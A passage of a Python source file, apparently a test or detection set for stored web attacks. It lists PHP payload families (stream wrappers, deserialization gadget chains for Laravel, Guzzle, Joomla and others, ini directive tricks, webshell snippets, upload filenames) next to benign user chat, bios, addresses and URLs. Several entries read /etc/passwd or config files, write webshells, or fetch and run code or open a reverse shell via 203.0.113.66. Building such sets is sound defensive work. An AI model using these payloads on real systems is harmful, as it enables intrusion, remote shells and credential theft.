    "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/etc/passwd",
    "php://filter/zlib.deflate|convert.base64-encode/resource=../config/database.php",
    "php://filter/resource=/proc/self/environ",
    "pHp://FilTer/convert.base64-encode/resource=.env",
    "php://input",
    "php://fd/0",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain,<?php system('id');?>",
    # avatar URL checked with file_exists(): phar:// unserializes the uploaded JPEG's metadata
    "phar:///var/www/html/uploads/avatars/1337.jpg/test.txt",
    "phar://./uploads/invoice.pdf",
    "compress.zlib://phar:///tmp/upload.phar/a",
    "zip:///var/www/html/uploads/resume.zip#shell.php",
    "zip://uploads/theme.zip%23s.php",
    "expect://id",
    "expect://curl -s http://203.0.113.66/x|sh",
    "glob:///var/www/html/*.bak",
    "glob://../config/*.php",
    "ssh2.exec://deploy:hunter2@127.0.0.1:22/id",
    "compress.bzip2:///var/www/html/.env",
    "php://filter/write=convert.base64-decode/resource=/var/www/html/s.php",
    "php://temp/maxmemory:1",
    "rar:///var/www/html/uploads/a.rar#s.php",
    "file:///var/www/html/wp-config.php",
    "php://filter/convert.quoted-printable-encode/resource=data://,<?php system('id');?>",
]

# php-object-injection: a serialized PHP value kept where the application will later unserialize() it: a
# remember-me or cart cookie, a preferences column, a session file, a WordPress option or order meta, a cache
# entry, a Joomla session row written from the User-Agent. Each targets the PHP interpreter through a gadget chain
# of a named product (Laravel, Guzzle, Drupal, Symfony, Monolog, WordPress, Yii, Zend, SwiftMailer, Joomla) or of
# the application's own classes.
OBJECT_INJECTION: list[Entry] = [
    # Laravel: PendingBroadcast::__destruct -> Faker\Generator::__call -> system('id')
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"'
    '\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    # Laravel: PendingBroadcast -> Bus\Dispatcher's queue resolver
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:25:"Illuminate\\Bus\\Dispatcher'
    '":1:{s:16:"\x00*\x00queueResolver";s:6:"system";}s:8:"\x00*\x00event";O:38:"Illuminate\\Broadcasting\\Broadc'
    'astEvent":1:{s:10:"connection";s:32:"curl -s http://203.0.113.66/l|sh";}}',
    # Guzzle FileCookieJar::__destruct writes a PHP file into the uploads folder
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:42:"/'
    'var/www/html/wp-content/uploads/cache.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookie'
    's";b:1;s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{'
    's:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:28:"'
    '<?php system($_GET[\'c\']); ?>";}}}s:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;}',
    # Drupal 8 REST (FnStream::__destruct calls _fn_close)
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"'
    'phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # Symfony WindowsPipes::__destruct deletes a file
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\Pipes\\Win'
    'dowsPipes\x00files";a:1:{i:0;s:23:"/var/www/html/.htaccess";}}',
    # Monolog SyslogUdpHandler -> BufferHandler processors -> system
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
    '{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id'
    '";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:'
    '13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # the application's own classes: a logger whose destructor writes its entry to its file
    'O:6:"Logger":2:{s:7:"logfile";s:27:"/var/www/html/uploads/x.php";s:5:"entry";s:25:"<?php eval($_POST[1]); ?>'
    '";}',
    'a:2:{s:5:"theme";s:4:"dark";s:5:"cache";O:13:"TemplateCache":2:{s:4:"path";s:19:"/var/www/html/t.php";s:7:"c'
    'ontent";s:15:"<?=`$_GET[0]`?>";}}',
    'O:15:"UserPreferences":2:{s:8:"callback";s:6:"system";s:4:"args";s:2:"id";}',
    'O:4:"Cart":2:{s:5:"items";a:0:{}s:6:"coupon";O:6:"Coupon":2:{s:6:"filter";s:6:"assert";s:4:"code";s:9:"phpin'
    'fo()";}}',
    # __wakeup skipped: more properties declared than given (CVE-2016-7124)
    'O:7:"Session":3:{s:4:"user";s:5:"admin";s:4:"role";s:13:"administrator";}',
    # a filter that rejects O:<digits>: the plus sign still parses
    'O:+6:"Logger":2:{s:7:"logfile";s:19:"/var/www/html/s.php";s:5:"entry";s:23:"<?php system($_GET[0]);";}',
    # fast destruct: the duplicate key frees the object before the code that would reject it runs
    'a:2:{i:0;O:9:"FileCache":1:{s:4:"file";s:24:"/var/www/html/config.php";}i:0;i:0;}',
    'C:11:"ArrayObject":64:{x:i:0;a:0:{};m:a:1:{s:1:"x";O:5:"Debug":1:{s:3:"cmd";s:2:"id";}}}',
    'C:16:"SplObjectStorage":79:{x:i:1;O:12:"ShellCommand":1:{s:7:"command";s:15:"cat /etc/passwd";},N;;m:a:0:{}}',
    # WordPress (Requests_Utility_FilteredIterator calls its callback on each element)
    'O:33:"Requests_Utility_FilteredIterator":2:{s:43:"\x00Requests_Utility_FilteredIterator\x00callback";s:6:"sy'
    'stem";s:22:"\x00ArrayIterator\x00storage";a:1:{i:0;s:2:"id";}}',
    # Yii2 BatchQueryResult -> Faker -> CreateAction::run
    'O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\x00yii\\db\\BatchQueryResult\x00_dataReader";O:15:"Faker\\Generat'
    'or":1:{s:13:"\x00*\x00formatters";a:1:{s:5:"close";a:2:{i:0;O:21:"yii\\rest\\CreateAction":2:{s:11:"checkAcc'
    'ess";s:6:"system";s:2:"id";s:6:"whoami";}i:1;s:3:"run";}}}}',
    # SwiftMailer: the temporary byte stream's destructor deletes the named file
    'O:40:"Swift_ByteStream_TemporaryFileByteStream":1:{s:38:"\x00Swift_ByteStream_FileByteStream\x00_path";s:28:'
    '"/var/www/html/uploads/sh.php";}',
    # Zend Framework 1 (Magento 1): Zend_Log -> Zend_Layout inflector -> preg_replace /e
    'O:8:"Zend_Log":1:{s:11:"\x00*\x00_writers";a:1:{i:0;O:20:"Zend_Log_Writer_Mail":4:{s:16:"\x00*\x00_eventsToM'
    'ail";a:1:{i:0;i:1;}s:22:"\x00*\x00_layoutEventsToMail";a:0:{}s:8:"\x00*\x00_mail";O:9:"Zend_Mail":1:{s:11:"'
    '\x00*\x00_subject";s:1:"x";}s:10:"\x00*\x00_layout";O:11:"Zend_Layout":3:{s:13:"\x00*\x00_inflector";O:23:"Z'
    'end_Filter_PregReplace":2:{s:16:"\x00*\x00_matchPattern";s:7:"/(.*)/e";s:15:"\x00*\x00_replacement";s:13:"sy'
    'stem(\'id\');";}s:20:"\x00*\x00_inflectorEnabled";b:1;s:10:"\x00*\x00_layout";s:6:"layout";}}}}',
    # Joomla 1.5-3.4 (CVE-2015-8562): the User-Agent is stored in the session row, truncated by the 4-byte
    # character, and unserialized on the next request
    '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandl'
    'ers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";s:37'
    ':"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache'
    '_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}\U0001d306',
    # privilege arrays kept in user meta and session files
    'a:2:{s:4:"role";s:13:"administrator";s:4:"caps";a:1:{s:13:"administrator";b:1;}}',
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    'user|O:4:"User":2:{s:2:"id";i:1;s:7:"isAdmin";b:1;}',
    'O:4:"Evil":2:{s:1:"a";O:5:"Shell":1:{s:3:"cmd";s:31:"nc -e /bin/sh 203.0.113.66 4444";}s:1:"b";r:2;}',
    'O:8:"stdClass":2:{s:4:"role";s:5:"admin";s:8:"verified";b:1;}',
    # remember-me cookies store the serialized object base64-encoded
    base64.b64encode(b'O:6:"Logger":2:{s:7:"logfile";s:27:"/var/www/html/uploads/x.php";s:5:"entry";'
                     b's:25:"<?php eval($_POST[1]); ?>";}').decode(),
    base64.b64encode(b'O:14:"RememberMeUser":2:{s:8:"username";s:5:"admin";s:5:"token";b:1;}').decode(),
]

# php-config-directives: ini directives planted where PHP will read them later: a .user.ini or .htaccess written
# through a file manager or an upload, FastCGI PHP_VALUE parameters kept in a proxy config, a php-cgi argument
# string, or an ini_set() in a stored snippet; the target is the PHP interpreter (php-fpm, mod_php, php-cgi).
CONFIG: list[Entry] = [
    # .user.ini content: every PHP file in the folder first includes the upload
    "auto_prepend_file=php://input",
    "auto_prepend_file=/var/www/html/uploads/avatar.gif",
    "auto_append_file=\"/var/www/html/uploads/notes.txt\"",
    "allow_url_include=On\nauto_prepend_file=http://203.0.113.66/s.txt",
    "allow_url_fopen=1\nallow_url_include=1",
    # .htaccess saved by a "custom rewrite rules" setting
    "php_value auto_prepend_file \"/var/www/html/uploads/avatar.jpg\"",
    "php_flag engine on\nAddType application/x-httpd-php .jpg",
    "php_value auto_append_file php://input",
    "php_admin_value open_basedir none",
    # FastCGI parameters handed to php-fpm (PHP_VALUE accepts system-level directives)
    "PHP_VALUE: auto_prepend_file = php://input\nallow_url_include = On",
    "PHP_ADMIN_VALUE=disable_functions=\nopen_basedir=/",
    # php-cgi argument injection (CVE-2012-1823, CVE-2024-4577)
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "-d safe_mode=Off -d disable_functions=NULL -d auto_prepend_file=php://input",
    "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp%3a//input",
    # directives that turn the error log or the mail log into a PHP file
    "error_log=/var/www/html/e.php\nhtml_errors=0",
    "mail.log=/var/www/html/m.php",
    "sendmail_path=\"sh -c 'id>/tmp/o'\"",
    "extension=/var/www/html/uploads/evil.so",
    "zend_extension=/tmp/x.so",
    "include_path=\".:/var/www/html/uploads\"",
    "session.save_path=/var/www/html/uploads",
    "register_globals=On",
    "open_basedir=/",
    # stored snippets that change the configuration at run time
    "ini_set('allow_url_include','1');include('http://203.0.113.66/s.txt');",
    "ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');",
    "ini_set('display_errors',1);ini_set('error_log','/var/www/html/e.php');",
]

# superglobals: planted code that takes the real command from a request superglobal later, so the stored part
# stays short and harmless-looking. Stored in an eval'd template, a widget snippet, a log line that is included,
# a complex-curly string compiled with eval; the target is the PHP interpreter.
SUPERGLOBALS: list[Entry] = [
    "${@eval($_POST[1])}",
    "{${eval($_GET[e])}}",
    "@$_REQUEST['f']($_REQUEST['a']);",
    "eval($_COOKIE['p']);",
    "assert($_SERVER['HTTP_X_EVAL']);",
    ("system($_SERVER['HTTP_USER_AGENT']);", *UA),
    "extract($_POST);$func($arg);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "$GLOBALS['_POST']['x']($GLOBALS['_POST']['y']);",
    "include $_FILES['f']['tmp_name'];",
    "print_r($_ENV);",
    "var_dump($_SERVER);",
    "print_r($GLOBALS);",
    "$_SESSION['role']='admin';",
    "$_SESSION['is_admin']=1;",
    "{$_GET[0]($_GET[1])}",
    "array_map($_GET['f'],$_GET['a']);",
    "call_user_func_array($_REQUEST['f'],$_REQUEST['a']);",
    "eval(getenv('HTTP_CMD'));",
    "file_put_contents($_GET['n'],$_POST['d']);",
    "move_uploaded_file($_FILES['a']['tmp_name'],$_FILES['a']['name']);",
    "mail($_POST['to'],'x','y','',$_POST['params']);",
    "eval($HTTP_RAW_POST_DATA);",
    "eval($_SERVER['HTTP_REFERER']);",
    "echo `{$_GET['c']}`;",
    "include($_REQUEST['page'].'.php');",
]

# php-file-upload: a file name that the upload keeps and the web server later executes. Stored by the admin
# import, an avatar or attachment upload; the sink is Apache/nginx+php-fpm/IIS serving the uploads folder; the
# target is the PHP interpreter.
FILE_UPLOAD: list[Entry] = [
    ("avatar.php", *FILE),
    ("shell.phtml", *FILE),
    ("invoice.pdf.php", *FILE),
    # Apache AddHandler: any file with .php anywhere in its name runs
    ("avatar.php.jpg", *FILE),
    ("resume.php5", *FILE),
    ("report.pht", *FILE),
    ("x.phar", *FILE),
    ("photo.php7", *FILE),
    ("profile.pHp", *FILE),
    ("shell.PhTmL", *FILE),
    # Windows: trailing dot and space, and the NTFS data stream, vanish on save
    ("shell.php.", *FILE),
    ("shell.php ", *FILE),
    ("shell.php::$DATA", *FILE),
    # IIS 6 semicolon and folder tricks
    ("shell.asp;.jpg", *FILE),
    ("shell.php;.jpg", *FILE),
    # the validator looks at the last extension, the C file API stops at the null byte
    ("shell.php%00.jpg", *FILE),
    ("shell.php\x00.png", *FILE),
    # the upload itself reconfigures the folder
    (".htaccess", *FILE),
    (".user.ini", *FILE),
    # traversal out of the uploads folder into the web root
    ("../../../var/www/html/s.php", *FILE),
    ("..%2f..%2fpublic%2fcmd.php", *FILE),
    ("shell.inc", *FILE),
    ("cv.phps", *FILE),
    ("image.jpg.phar", *FILE),
    ("filename*=UTF-8''shell.php", *FILE),
    ("shell.php/.", *FILE),
    ("logo.svg.php5", *FILE),
]

# php-high-risk-function-names: calls of functions that leak, write, connect or run (the families' named risky
# functions), in stored code that is later evaluated. Stored in a theme's functions file edited in the admin, a
# plugin snippet, an eval'd setting; the target is the PHP interpreter (and sendmail / IMAP helpers it starts).
HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "show_source('config.php');",
    "highlight_file('/var/www/html/.env');",
    "file_get_contents('/etc/passwd');",
    "readfile('/etc/shadow');",
    "file_put_contents('s.php','<?php system($_GET[1]);');",
    "fsockopen('203.0.113.66',4444);",
    "posix_getpwuid(0);",
    "symlink('/','/var/www/html/uploads/root');",
    "unserialize(base64_decode($_COOKIE['cart']));",
    "eval(gzuncompress(base64_decode('eJwrriwuSc3VUM9MUde0BgAinwRN')));",
    "get_defined_vars();",
    "dl('evil.so');",
    # LD_PRELOAD through mail() starting sendmail (disable_functions bypass)
    "putenv('LD_PRELOAD=/tmp/e.so');mail('a@example.com','b','c');",
    # PHPMailer CVE-2016-10033: sendmail -X writes the message into the web root
    "mail('x@example.com','y','z','','-OQueueDirectory=/tmp -X/var/www/html/s.php');",
    "error_log('<?php system($_GET[c]);?>',3,'/var/www/html/e.php');",
    # IMAP CVE-2018-19518: rsh's -oProxyCommand runs the base64 command
    "imap_open('{x.example.com -oProxyCommand=echo\tZWNobyAxPi90bXAvcHduZWQ=|base64\t-d|sh}','','');",
    "copy('http://203.0.113.66/s.txt','/var/www/html/s.php');",
    "scandir('/');",
    "glob('/home/*/.ssh/*');",
    "ini_get_all();",
    "apache_setenv('LD_PRELOAD','/tmp/e.so');",
    "getenv('DB_PASSWORD');",
    "move_uploaded_file($f,'/var/www/html/x.php');",
    "chmod('/var/www/html',0777);",
    "posix_kill(posix_getppid(),9);",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-client-template", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", FILE_UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    # the fields these payloads are stored in and read back from later
    names = ["display_name", "bio", "address", "webhook_url", "template", "filter_name", "signature", "website",
             "company", "note", "nickname", "settings"]
    upload = "GIF89a"   # an image's first bytes: the file name is what the upload plants
    file_type = "image/gif"
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    xml_controls = "\n\t"

    def is_latin(self, sub: str, payload: str) -> bool:
        """Payloads written as raw bytes (high bytes, nothing beyond latin-1) go on the wire as those bytes."""
        return all(ord(ch) < 256 for ch in payload) and any(ord(ch) >= 128 for ch in payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ================================================================================================================
# Benign: real people filling the same fields innocently.
CHAT = [
    # Slack: editing profiles and settings
    "just updated my display name to Seán Ó Briain, the fada shows fine now 🎉",
    "can someone check why my bio cuts off after the apostrophe in \"I'm\"? it saved as just I",
    "set up the Slack webhook for #deploys in Settings → Integrations, test message arrived",
    "how do I change the notification template? I want \"Hi {{first_name}}, your report is ready\"",
    "the welcome e-mail template uses {{user.name}} and {{company}}, both are in the help center",
    "my address has a unit number, 12/45 Smith St, and the form keeps dropping the slash",
    "saved search \"Open tickets > 7 days (EMEA)\" is now shared with the whole support team",
    "renamed the report to 'Q2 churn – APAC & ANZ' and the old link 404s, known issue?",
    "profile pictures: PNG or JPG under 5 MB please, we stopped accepting SVG uploads",
    "whoever set their name to 🍕 please change it back, the payroll export chokes on emoji",
    "the CSV import failed on row 42, the address cell had a line break inside the quotes",
    "Discord webhook for the on-call alerts is added, the URL is in 1Password",
    "does the PDF invoice render Japanese names? 田中さん's invoice shows empty boxes",
    "the user agent in the audit log says Safari on iPhone, so it was her phone, not a break-in",
    "is markdown supported in the bio? **bold** came out with the asterisks",
    "the signature field strips HTML, so no <b> tags, just use a plain line break",
    "don't remove {{unsubscribe_url}} from the newsletter template, legal needs it",
    "changed my timezone to Europe/Lisbon in Preferences and all my reminders moved an hour",
    "the saved filter 'status:open assignee:me' is honestly my favourite feature",
    "Zapier hook for new signups is live, it posts to hooks.zapier.com and then to the CRM",
    "can I put my pronouns in the display name? like \"Alex (they/them)\"",
    "the address autocomplete turned \"Flat 3, 10 Rue d'Alésia\" into \"Flat 3 10 Rue dAlsia\", bug filed",
    "Teams webhook is deprecated by Microsoft, we need to move the alert to Workflows",
    "new setting: Preferences → Notifications → \"only mentions\", finally",
    "reminder: the e-mail subject template is limited to 78 characters",
    "the report builder saves filters as JSON now, old saved searches were migrated",
    "I changed the reply-to in the template to support@example.com, was pointing at my inbox",
    "my company name has an ampersand (Smith & Jones) and the invoice shows &amp; — ticket #4412",
    "the log viewer shows referrers now, most of our signups come from the LinkedIn post",
    "someone uploaded 'final_FINAL_v3 (2).docx' again, please name files properly 😅",
    "we support right-to-left names now, tested with عبد الله and שרה",
    "the import template has columns name, email, address, phone — in that order",
    "updated the PagerDuty integration key in Settings, old one was rotated",
    "GitHub webhook secret changed, redeliveries from yesterday failed with 401",
    "the \"{{count}} new messages\" string needs a plural form for Polish, ask the translators",
    "her display name is \"Dr. Ngozi A.\", keep the dot, she asked twice",
    "the vue app escapes names already, the double &amp; was on the server side",
    "php 8.3 upgrade broke the avatar resize, rolled back to 8.2 for now",
    "the admin page shows the raw user agent string, it's long but useful for support",
    "pinned: how to write a notification template → wiki/Notifications#placeholders",
    # bios
    "Product designer. Coffee ☕, cats 🐈 and clean typography.",
    "I'm José, backend engineer (PHP & Go), previously at a travel startup.",
    "Frontend dev, Vue 3 and Angular. Yes, I still maintain one AngularJS app.",
    "Support lead. If it's broken, I've probably seen it twice already.",
    "Marketing ops: e-mail templates, Mailchimp merge tags, far too many UTM links.",
    "Data engineer | SQL, Airflow, \"it works on my laptop\"",
    "研究者です。東京在住、日本語と英語どちらでも大丈夫です。",
    "Привет! Я занимаюсь аналитикой и отчётами.",
    "مهندسة برمجيات في الرياض",
    "She/her. Accessibility advocate and screen reader user.",
    "PHP developer since 5.2, now Laravel and Symfony. I write the import scripts.",
    "Security engineer: I review file uploads and webhooks for a living.",
    "Dad of 3, runner, amateur baker 🍞",
    "I write the notification templates. Blame me for the emojis 🙃",
    "Office manager at the Lisbon office — ask me about desks, keys and parking.",
    "Recruiter. Ping me if you know someone who likes \"hard problems & good coffee\".",
    "Ex-teacher, now a QA engineer. I break things for a living <3",
    "Solutions architect (AWS, Azure). Opinions are my own.",
    "Ελληνικά, English, Deutsch. Customer success for DACH & Greece.",
    "Night owl 🦉 on the APAC on-call rota",
]

SEARCHES = [
    "o'neill", "O'Brien", "Zoë", "José Núñez", "Müller", "田中", "李", "Мария", "محمد", "Ó Briain",
    "d'amour", "Smith & Jones", "Dr. Ngozi", "(she/her)", "🍕", "Anne-Marie", "script", "php", "template",
    "webhook", "onboarding", "svg", "css", "vue", "angular", "Flat 3", "12/45 Smith St", "#204", "apt 4b",
    "unit 7", "c/o", "PO Box", "saved searches", "Q2 churn", "EMEA", "open tickets > 7 days", "assignee:me",
    "status:open", "data", "import", "alert", "expression", "object", "style", "embed", "frame", "link",
    "form", "media", "system",
]

URLS = [
    "https://hooks.slack.com/services/T024BE7LD/B08ABCDEF12/Xq9vTn3LmZpW4rYs8KdE2hJc",
    "https://discord.com/api/webhooks/1187654321098765432/aBcD-EfGh_IjKlMnOpQrStUvWxYz0123456789abcdefGHIJ",
    "https://contoso.webhook.office.com/webhookb2/7f3c2a10-aaaa-4bbb-8ccc-1234567890ab@72f988bf-86f1-41af-91ab-"
    "2d7cd011db47/IncomingWebhook/5e8d1c2b3a4f/9a8b7c6d-1e2f-3a4b-5c6d-7e8f9a0b1c2d",
    "https://hooks.zapier.com/hooks/catch/1234567/bq8z2xk/",
    "https://events.pagerduty.com/v2/enqueue",
    "https://maker.ifttt.com/trigger/door_open/with/key/dKx8Q2mZp4",
    "https://hook.eu1.make.com/k3j4h5g6f7d8s9a0p1o2i3u4",
    "https://chat.googleapis.com/v1/spaces/AAAAbcdEfG/messages",
    "https://api.github.com/repos/acme/web/dispatches",
    "https://webhook.site/6f1c0b9e-1a2b-4c3d-8e9f-0a1b2c3d4e5f",
    "https://www.linkedin.com/in/maria-gonzalez-87a1b2",
    "https://github.com/ana-silva",
    "https://calendly.com/ana-silva/30min",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://vuejs.org/guide/essentials/template-syntax.html",
    "https://docs.angularjs.org/guide/security",
    "https://handlebarsjs.com/guide/expressions.html",
    "https://shopify.dev/docs/api/liquid/objects/customer",
    "https://mailchimp.com/help/all-the-merge-tags-cheat-sheet/",
    "https://stripe.com/docs/webhooks",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/?q=221B+Baker+Street,+London",
    "https://en.wikipedia.org/wiki/O%27Hare_International_Airport",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
]

PROSE = [
    # saved search and report names
    "Q3 churn > 20% (EMEA)",
    "Open tickets > 7 days (EMEA)",
    "New signups – last 30 days",
    "Users with < 5 logins",
    "R&D <-> Sales handover list",
    "VIP customers (do not e-mail!)",
    "Invoices #1000–#1999",
    "Managers @ Lisbon office",
    "Renewals due in June/July",
    "Accounts w/o address",
    "Team \"Blue\" members",
    "Churned but re-activated :)",
    # notification and e-mail templates with the placeholders the product documents
    "Hi {{first_name}}, your order {{order_id}} has shipped.",
    "Hello {{ customer.first_name }}, thanks for your order!",
    "Dear *|FNAME|*, your subscription renews on *|RENEWAL_DATE|*.",
    "Your ticket #{{ticket.id}} was updated by {{agent.name}}",
    "Hi %recipient.first_name%, here is your weekly summary",
    "{name} joined {team}",
    "{{count}} new messages in {{channel}}",
    "Reminder: {{event.title}} starts at {{event.start_time}}",
    "Password changed for {{user.email}}. Not you? Contact support.",
    "Welcome aboard, {{user.display_name}}! 🎉",
    "Your export ({{file_name}}) is ready to download",
    "{{inviter}} invited you to {{workspace}}",
    "Invoice {{invoice.number}}: {{invoice.total | currency}} due {{invoice.due_date}}",
    "Hi ${firstName}, your code is ${code}",
    # addresses, names and titles typed into the admin search box
    "Apt 4B, 12 O'Connell St",
    "Unit 7/21 King St, Newtown",
    "#204 - 1188 Main St",
    "c/o Hôtel Le Bristol",
    "Flat No. 3, 2nd Floor, 14/2 MG Road",
    "Hauptstraße 5 ½",
    "PO Box 1234",
    "Dr. José Núñez, PhD",
    "Zoë \"Zee\" Martin",
    "Sir Patrick Stewart-Smith, KBE",
    "O'Neil & Sons Plumbing",
    "Chris Lee <chris.lee@example.com>",
    "script writers guild",
    "php meetup organisers",
    "style guide reviewers",
    "media & embed team",
    "system administrators",
    "expression of interest – Berlin office",
    "alert rotation (weekend)",
]

PROFILES = [
    ("Seán Ó Briain", "Apt 4B, 12 O'Connell St, Dublin 1"),
    ("Dr. José Núñez, PhD", "Calle de Alcalá 45, 3º Izq., 28014 Madrid"),
    ("Zoë \"Zee\" Martin", "Unit 7/21 King St, Newtown NSW 2042"),
    ("李小龙", "上海市浦东新区世纪大道100号 15楼"),
    ("Мария Иванова", "ул. Тверская, д. 7, кв. 12, Москва"),
    ("محمد الأحمد", "شارع الملك فهد، الرياض"),
    ("Anna-Lena Müller-Lüdenscheidt", "Hauptstraße 5 ½, 10115 Berlin"),
    ("O'Neil & Sons Plumbing", "#204 - 1188 Main St, Vancouver BC V6B 1A1"),
    ("Priya 🌸 Raman", "Flat No. 3, 2nd Floor, 14/2 MG Road, Bengaluru 560001"),
    ("Jean-Luc D'Amour", "c/o Hôtel Le Bristol, 112 rue du Fbg St-Honoré, 75008 Paris"),
    ("Sir Patrick Stewart-Smith, KBE", "Flat 2, 10 Downing Mews, London SW1A 2AA"),
    ("田中 太郎 (Taro)", "東京都港区六本木6-10-1 #3401"),
    ("Ngozi Okonjo-Iweala", "Plot 12, Adeola Odeku St., Victoria Island, Lagos"),
    ("Chris Lee <chris.lee@example.com>", "PO Box 1234, Anchorage AK 99501"),
    ("Ms. Aoife O'Sullivan-Byrne", "Suite #5, 3rd Fl., 100 Main St. (rear entrance)"),
    ("Łukasz Żółć", "ul. Świętokrzyska 30/63, 00-116 Warszawa"),
    ("Ελένη Παπαδοπούλου", "Οδός Ερμού 25, Αθήνα 105 63"),
    ("Kwame \"KB\" Boateng", "House No. 7, Oxford St, Osu, Accra"),
    ("The 'Quote' Bakery", "12–14 Market Sq. — Unit B, York YO1 8RT"),
    ("José & María García", "Av. Paulista, 1578 - Bela Vista, São Paulo - SP, 01310-200"),
    ("Nguyễn Thị Minh Khai", "123/4 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("Ahmed Al-Farsi", "P.O. Box 550, Muscat 100, Oman"),
    ("Emily Chen (she/her)", "1600 Amphitheatre Pkwy, Mountain View, CA 94043"),
    ("Ana Silva 🇵🇹", "Rua da Prata 80, 2º Dto, 1100-420 Lisboa"),
    ("Dr. med. Jürgen Groß", "Königsallee 92a, 40212 Düsseldorf"),
    ("Mary-Kate O'Malley", "Apt. #12-B, 350 5th Ave, New York, NY 10118"),
    ("Søren Kierkegaard Jr.", "Nørregade 10, 1. th., 1165 København K"),
    ("Björk Guðmundsdóttir", "Laugavegur 26, 101 Reykjavík"),
    ("Rev. Dr. Samuel Okafor III", "450 Auburn Ave NE, Atlanta, GA 30312"),
    ("Ayşe Yılmaz", "İstiklal Cad. No:123 D:4, Beyoğlu/İstanbul"),
]

UPLOAD_NAMES = [
    "Q3 Board Deck (final) v2.pptx", "passport_scan.pdf", "O'Brien - Lease Agreement.pdf", "résumé_Zoë_Martin.pdf",
    "報告書_2024年6月.xlsx", "Invoice #10042.pdf", "team photo 😀.jpg", "Screenshot 2024-06-18 at 10.42.13.png",
    "IMG_20240612_181530.HEIC", "contacts_export.vcf", "users-import (1).csv", "notification-templates.json",
    "profile_picture.webp", "Статистика продаж.xlsx", "budget_2024-25 [draft].xlsx", "meeting notes & actions.docx",
    "logo.svg", "signature.png", "Terms_of_Service_v3.1.pdf", "welcome-email-template.html", "address-book.csv",
    "D&D campaign map.png", "php-8.3-upgrade-notes.md", "final_FINAL_v3 (2).docx", "avatar.jpeg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
